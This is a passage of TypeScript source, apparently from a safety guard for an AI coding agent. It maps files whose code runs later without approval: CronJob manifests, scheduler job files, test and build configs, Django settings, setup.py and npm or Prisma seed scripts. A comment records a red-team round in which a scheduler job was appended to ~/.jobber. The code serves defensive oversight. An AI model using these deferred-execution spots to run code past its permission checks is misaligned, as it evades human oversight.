  if (isInstructionFile(p)) return { where: `the agent instructions ${p.split('/').slice(-2).join('/')}`, when: 'whenever an agent reads them (it runs what they tell it to)', language: 'shell', strictUnknown: false, commands: instructedCommands };
  if (/\.ya?ml$/.test(lname) && text !== undefined && /^\s*kind:\s*CronJob\b/m.test(text)) return { where: `the Kubernetes CronJob manifest ${name}`, when: 'on the CronJob schedule once applied', language: 'shell', strictUnknown: false, commands: yamlCommands };
  // Stop 39 (round 33: `printf '[jobs]… cmd: sync.sh  time: "0 */10 * * * *"' >> ~/.jobber`): a job file of a user scheduler, by its text (a command beside a schedule).
  if (text !== undefined && scheduledJobText(text)) return { where: `the scheduler job file ${name}`, when: 'on the schedule its jobs name, once the scheduler loads the file', language: 'shell', strictUnknown: true, recurring: true, commands: jobCommands };
  return undefined;
}

/**
 * Code that a program the agent may run freely loads later (runnerPlaces.ts judges it): test files and
 * their set-up, test runners' and build tools' configuration files, Python's conftest.py, setup.py and task files.
 */
export interface RunnerPlace extends DeferredPlace {
  language: PayloadLanguage;
  /** A configuration that names files for the runner to load (`globalSetup: './scripts/reset-db.js'`): those in the workspace are judged too. */
  loads?: boolean;
  /** The application's own code (its entry module, Django settings): only what a write adds to it is judged. */
  appCode?: boolean;
  /** A runner's configuration (round 8): a file it names for loading that does not exist yet, and is no place judged when written, asks. */
  config?: boolean;
}

const CODE = /\.(c|m)?[jt]sx?$/;

/** Configuration files that are code, by the tool that loads them. */
const CODE_CONFIGS: ReadonlyArray<[RegExp, string]> = [
  [/^(jest|vitest|vite|playwright|karma|ava|cypress|wdio|nightwatch)\.(config|conf)\.(c|m)?[jt]s$/, 'when the test runner starts (npm test)'],
  [/^\.mocharc\.((c|m)?js|json|jsonc|ya?ml)$|^mocha\.opts$/, 'when mocha starts (npm test)'],
  [/^(jest\.config\.json|\.babelrc(\.json)?|babel\.config\.json|\.c8rc(\.json)?|\.nycrc(\.json)?)$/, 'when the test runner starts (npm test)'],
  [/^((jest|vitest|playwright|mocha|ava)[.-])?((vitest|jest)\.setup|setup-?tests|test-?setup|global-?setup|global-?teardown|setup-?files?)\.(c|m)?[jt]sx?$/, 'when the test runner starts (npm test)'],
  [/^(eslint\.config|\.eslintrc|prettier\.config|\.prettierrc|stylelint\.config|\.stylelintrc|commitlint\.config|lint-staged\.config|\.lintstagedrc)\.(c|m)?[jt]s$/, 'whenever the linter or formatter runs'],
  [/^(webpack|rollup|esbuild|babel|next|nuxt|svelte|astro|tailwind|postcss|tsup|remix|gatsby-config|gatsby-node|metro|quasar|angular)(\.config)?\.(c|m)?[jt]s$/, 'whenever the project builds (npm run build, the dev server)'],
];

/**
 * Files every start of the application runs (its entry module, Django's settings and entry points):
 * code written or imported there runs with the next `npm start`, dev server or `manage.py` command.
 */
const APP_STARTS: ReadonlyArray<[RegExp, string]> = [
  [/\/(src\/)?(index|main|server|app)\.(c|m)?[jt]sx?$/, 'whenever the app starts (npm start, the dev server)'],
  [/\/(settings|manage|wsgi|asgi)\.py$|\/settings\/[^/]+\.py$/, 'whenever the Django project starts (every manage.py command, the server)'],
];

const PYTHON_RUNNERS: ReadonlyArray<[RegExp, string]> = [
  [/^conftest\.py$/, 'whenever pytest runs'],
  [/^(test_.+|.+_test)\.py$/, 'whenever pytest runs'],
  [/^setup\.py$/, 'on every `pip install .` or build of the package'],
  [/^(noxfile|tasks|dodo|fabfile)\.py$/, 'when the task runner (nox, invoke, doit, fabric) runs'],
];

/** Where `p` is code an allowed runner loads later, with when; undefined elsewhere. */
export function runnerPlaceOf(absolutePath: string): RunnerPlace | undefined {
  const p = absolutePath.replace(/\\/g, '/');
  const l = p.toLowerCase();
  if (/\/node_modules\/\.bin\/[^/]+$/.test(l)) return { where: `the package program node_modules/.bin/${basename(p)}`, when: 'whenever npm scripts or npx run it by name', language: 'shell' };
  if (l.includes('/node_modules/') || l.includes('/.git/')) return undefined;
  const name = basename(l);
  for (const [re, when] of PYTHON_RUNNERS) if (re.test(name)) return { where: `the Python file ${basename(p)}`, when, language: 'python' };
  for (const [re, when] of CODE_CONFIGS) if (re.test(name)) return { where: `the configuration ${basename(p)}`, when, language: 'javascript', loads: true, config: true };
  for (const [re, when] of APP_STARTS) if (re.test(l)) return { where: `the file ${p.split('/').slice(-2).join('/')}`, when, language: l.endsWith('.py') ? 'python' : 'javascript', loads: true, appCode: true };
  if (!CODE.test(name)) return undefined;
  if (/\.(test|spec)\.(c|m)?[jt]sx?$/.test(name) || /\/(test|tests|__tests__|spec|specs)\//.test(l)) {
    return { where: `the test file ${basename(p)}`, when: 'whenever the tests run (npm test)', language: 'javascript' };
  }
  return undefined;
}

function outsideRoots(abs: string, facts: Pick<Facts, 'workspaceRoots' | 'cwd'>): boolean {
  const roots = facts.workspaceRoots.length > 0 ? facts.workspaceRoots : [facts.cwd];
  return !roots.some((r) => isWithin(r, abs) || r === abs);
}

function languageOfScript(path: string): RunnerPlace['language'] {
  if (/\.py$/i.test(path)) return 'python';
  return /\.(c|m)?[jt]sx?$/i.test(path) ? 'javascript' : 'shell';
}

/**
 * A file a package script runs (a `db:reset` script that runs a file of the project with node,
 * Prisma's `seed` command): the nearest package.json above it, inside the workspace, names it.
 */
export function packageScriptTarget(absolutePath: string, facts: Pick<Facts, 'readFile' | 'workspaceRoots' | 'cwd'>): RunnerPlace | undefined {
  if (outsideRoots(absolutePath, facts) || /\/node_modules\//.test(absolutePath)) return undefined;
  for (let dir = dirname(absolutePath), i = 0; i < 8; dir = dirname(dir), i++) {
    const text = facts.readFile(dir + '/package.json');
    if (text !== undefined) {
      let manifest: { scripts?: Record<string, unknown>; prisma?: { seed?: unknown } };
      try {
        manifest = JSON.parse(text) as typeof manifest;
      } catch {
        return undefined;
      }
      const rel = absolutePath.slice(dir.length + 1);
      const runs = (line: unknown): boolean => typeof line === 'string' && line.split(/[\s;&|()'"=]+/).some((word) => word.replace(/^\.\//, '') === rel);
      const script = Object.entries(manifest.scripts ?? {}).find(([, line]) => runs(line));
      if (script) return { where: `${rel}, which the npm script ${script[0]} runs`, when: `when \`npm run ${script[0]}\` runs`, language: languageOfScript(rel) };
      if (runs(manifest.prisma?.seed)) return { where: `${rel}, Prisma's seed script`, when: 'whenever prisma seeds the database (migrate reset, migrate dev)', language: languageOfScript(rel) };
      return undefined;
    }
    if (outsideRoots(dirname(dir), facts) && outsideRoots(dir, facts)) return undefined;
  }
  return undefined;
}
